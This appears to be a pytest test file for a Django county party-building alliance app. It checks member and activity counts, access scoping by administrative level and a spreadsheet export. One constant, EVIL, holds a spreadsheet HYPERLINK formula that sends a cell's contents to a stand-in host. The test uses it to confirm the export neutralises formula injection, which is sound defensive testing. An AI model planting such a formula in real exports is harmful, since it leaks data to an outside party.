"""The 党建联合体 ledger: members from anywhere in the county, activities through the registry
(events' provider), counts per alliance, scoped to the alliance's place in the tree."""

from __future__ import annotations

from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from lianxin.economy import alliance_panels
from lianxin.economy.selectors_alliances import alliance_lines
from lianxin.events.models import Event, EventKind, EventStatus
from tests.economy.liangxin_factories import alliance, liangxin_world

pytestmark = pytest.mark.django_db


def _event(unit, title, *, days=0, status=EventStatus.OPEN):
    start = timezone.now() - timedelta(days=days)
    return Event.objects.create(
        unit=unit,
        kind=EventKind.PARTY_DAY,
        title=title,
        place="活动室",
        starts_at=start,
        ends_at=start + timedelta(hours=2),
        status=status,
    )


@pytest.fixture
def alliances(world):
    units = liangxin_world(world)
    county_alliance = alliance(
        world.county,
        "620524000000-L01",
        "城乡党建联合体",
        [world.village_a, world.village_b, units["b_joint"], world.department],
    )
    town_alliance = alliance(
        world.town_a, "620524100000-L01", "城关共建联合体", [world.village_a, units["a_covered"]]
    )
    _event(world.village_a, "东关主题党日", days=3)
    _event(world.village_b, "张家主题党日", days=1)
    _event(units["b_joint"], "合作社技术培训", days=2)
    _event(world.village_b, "取消的活动", status=EventStatus.CANCELLED)
    _event(world.town_b, "洛门镇自己的活动")  # not a member of either
    _event(county_alliance, "联合体联席会", days=5)
    return county_alliance, town_alliance


def test_the_alliance_page_lists_members_from_another_town_for_a_county_user(
    world, alliances, client, login
):
    county_alliance, _town_alliance = alliances
    login(world.users["county_admin"])
    html = client.get(reverse("economy:alliance", args=[county_alliance.pk])).content.decode()
    for name in ("东关社区", "张家村", "蔬菜合作社", "县住建局", "城关镇", "洛门镇"):
        assert name in html
    assert "成员单位 4 个，活动 4 场" in html
    assert "张家主题党日" in html and "联合体联席会" in html
    assert "取消的活动" not in html and "洛门镇自己的活动" not in html
    assert html.index("张家主题党日") < html.index("东关主题党日")  # newest first


def test_member_and_activity_counts_per_alliance(world, alliances, client, login):
    county_alliance, town_alliance = alliances
    lines = {line.alliance.pk: line for line in alliance_lines(user=world.users["county_admin"])}
    assert (lines[county_alliance.pk].member_count, lines[county_alliance.pk].activities) == (4, 4)
    assert (lines[town_alliance.pk].member_count, lines[town_alliance.pk].activities) == (2, 1)
    assert lines[county_alliance.pk].towns == ["城关镇", "洛门镇"]
    login(world.users["county_admin"])
    html = client.get(reverse("economy:alliances")).content.decode()
    assert "城乡党建联合体" in html and "城关共建联合体" in html


def test_an_alliance_is_seen_where_it_hangs(world, alliances, client, login):
    county_alliance, town_alliance = alliances
    assert [line.alliance for line in alliance_lines(user=world.users["town_a"])] == [town_alliance]
    assert alliance_lines(user=world.users["town_b"]) == []
    login(world.users["town_b"])
    assert client.get(reverse("economy:alliance", args=[town_alliance.pk])).status_code == 404
    assert client.get(reverse("economy:alliance", args=[county_alliance.pk])).status_code == 404
    assert "城关共建联合体" not in client.get(reverse("economy:alliances")).content.decode()
    login(world.users["resident_a"])
    assert client.get(reverse("economy:alliances")).status_code == 403


def test_the_registry_finds_the_events_provider_and_sums_nothing_for_nothing():
    assert any(
        m.__name__ == "lianxin.events.alliance_activities" for m in alliance_panels._providers()
    )
    assert alliance_panels.activity_counts({}) == {}


EVIL = '=HYPERLINK("http://x/?d="&A2,"点击")'


def test_the_export_is_scoped_and_formula_safe(world, alliances, client, login):
    import io

    from openpyxl import load_workbook

    from lianxin.org.models import Unit
    from tests.core.test_spreadsheets import assert_no_formulas

    county_alliance, _town_alliance = alliances
    Unit.objects.filter(pk=world.village_b.pk).update(name=EVIL)
    login(world.users["county_admin"])
    data = client.get(reverse("economy:alliances_export")).content
    assert_no_formulas(data)
    cells = [c.value for ws in load_workbook(io.BytesIO(data)) for r in ws for c in r]
    assert EVIL in cells and "城乡党建联合体" in cells and "城关共建联合体" in cells
    login(world.users["town_a"])
    data = client.get(reverse("economy:alliances_export")).content
    cells = [c.value for ws in load_workbook(io.BytesIO(data)) for r in ws for c in r]
    assert "城关共建联合体" in cells and "城乡党建联合体" not in cells and EVIL not in cells
